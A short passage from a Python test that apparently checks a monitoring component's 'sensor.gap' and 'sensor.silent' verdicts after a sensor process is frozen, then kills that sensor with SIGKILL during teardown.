        v = frozen.until("sensor.gap", lambda: verdicts.new("sensor.gap") or None)[0]
        assert float(v.evidence["gapSeconds"]) > 10
        assert verdicts.new("sensor.silent") == []  # each freeze stayed under the silence bound
        judge.feed()
        assert training(judge).new("sensor.gap") == []
    finally:
        world.pod.signal(sensor, signal.SIGKILL)
